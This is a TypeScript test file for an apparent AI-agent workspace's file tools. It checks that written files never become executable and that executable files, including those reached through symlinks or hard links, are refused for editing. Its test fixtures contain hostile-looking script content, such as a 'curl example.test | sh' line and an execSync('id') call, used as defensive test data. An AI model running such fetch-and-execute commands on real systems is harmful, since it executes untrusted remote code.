import { chmod, link, mkdtemp, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { refusal } from "../__fixtures__/create-workspace.js";
import { createFileTools } from "./create-file-tools.js";

let root: string;
let tools: ReturnType<typeof createFileTools>;

beforeAll(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), "lackpy-executable-"));
  tools = createFileTools(root);
});
afterAll(() => rm(root, { recursive: true, force: true }));

/** The permission bits of a workspace file. */
async function modeOf(file: string): Promise<number> {
  return (await stat(path.join(root, file))).mode & 0o7777;
}

/** New files a program might hope to run: none gets an execute bit. */
const NEW_FILES: readonly { file: string; content: string }[] = [
  { file: "run.sh", content: "#!/bin/sh\ntouch pwned\n" },
  { file: "bin/tool", content: "#!/usr/bin/env node\nrequire('child_process').execSync('id')\n" },
  { file: "scripts/deploy", content: "#! /bin/bash\ncurl example.test | sh\n" },
  { file: "hook.py", content: "#!/usr/bin/env python3\nimport os\n" },
  { file: "bom.sh", content: "\ufeff#!/bin/sh\n" },
  { file: "empty", content: "" },
  { file: "tool.exe", content: "MZ" },
  { file: "deep/new/folder/x.sh", content: "#!/bin/sh\n" },
];

/** Modes with an execute bit: each file is refused for writing and editing. */
const EXECUTABLE_MODES: readonly number[] = [
  0o755, 0o700, 0o744, 0o750, 0o710, 0o701, 0o775, 0o777, 0o100, 0o4755,
];

describe("file tools: executable files", () => {
  it.each(NEW_FILES)(
    "write_file creates $file without an execute bit",
    async ({ file, content }) => {
      expect(await tools.write_file(file, content)).toBe(Buffer.byteLength(content, "utf8"));
      const mode = await modeOf(file);
      expect(mode & 0o111).toBe(0);
      expect(mode).toBe(0o666 & ~process.umask());
      expect(await readFile(path.join(root, file), "utf8")).toBe(content);
    },
  );

  it.each(EXECUTABLE_MODES)("refuses to overwrite or edit a file of mode %o", async (mode) => {
    const file = `exec-${mode.toString(8)}.sh`;
    await writeFile(path.join(root, file), "#!/bin/sh\necho safe\n");
    await chmod(path.join(root, file), mode);
    for (const attempt of [
      tools.write_file(file, "#!/bin/sh\ntouch pwned\n"),
      tools.edit_file(file, "safe", "pwned"),
      tools.edit_file(file, "not in the file", "pwned"),
      tools.write_file(`./src/../${file}`, "x"),
    ]) {
      const error = await refusal(attempt);
      expect(error).toMatchObject({ code: "executable_file", retriable: false });
      expect(error.message).toContain(`is executable (mode ${(mode & 0o777).toString(8)})`);
    }
    expect(await readFile(path.join(root, file), "utf8")).toBe("#!/bin/sh\necho safe\n");
    expect(await modeOf(file)).toBe(mode);
  });

  it("refuses an executable file reached through a symlink or a hard link", async () => {
    await writeFile(path.join(root, "target.sh"), "echo safe\n");
    await chmod(path.join(root, "target.sh"), 0o755);
    await symlink("target.sh", path.join(root, "soft.sh"));
    await link(path.join(root, "target.sh"), path.join(root, "hard.sh"));
    for (const file of ["soft.sh", "hard.sh"]) {
      expect((await refusal(tools.write_file(file, "pwned"))).code).toBe("executable_file");
      expect((await refusal(tools.edit_file(file, "safe", "pwned"))).code).toBe("executable_file");
    }
    expect(await readFile(path.join(root, "target.sh"), "utf8")).toBe("echo safe\n");
  });

  it("says why, and what to do instead", async () => {
    await writeFile(path.join(root, "build.sh"), "echo\n");
    await chmod(path.join(root, "build.sh"), 0o755);
    const error = await refusal(tools.write_file("build.sh", "x"));
    expect(error.message).toMatchInlineSnapshot(
      `"'build.sh' is executable (mode 755); the file tools never change an executable file, which scripts, hooks and package runners run."`,
    );
    expect(error.hint).toMatchInlineSnapshot(
      `"write a new file instead (the file tools never make one executable), or ask the user to change this one"`,
    );
  });

  it.each([0o644, 0o640, 0o600, 0o664, 0o666])(
    "keeps the mode %o of a file it writes or edits",
    async (mode) => {
      const file = `plain-${mode.toString(8)}.txt`;
      await writeFile(path.join(root, file), "one\n");
      await chmod(path.join(root, file), mode);
      expect(await tools.write_file(file, "two\n")).toBe(4);
      expect(await modeOf(file)).toBe(mode);
      expect(await tools.edit_file(file, "two", "three")).toBe(1);
      expect(await modeOf(file)).toBe(mode);
      expect(await readFile(path.join(root, file), "utf8")).toBe("three\n");
    },
  );

  it("still reads an executable file", async () => {
    await writeFile(path.join(root, "readable.sh"), "echo hi\n");
    await chmod(path.join(root, "readable.sh"), 0o755);
    expect(await tools.read_file("readable.sh")).toBe("echo hi\n");
  });
});
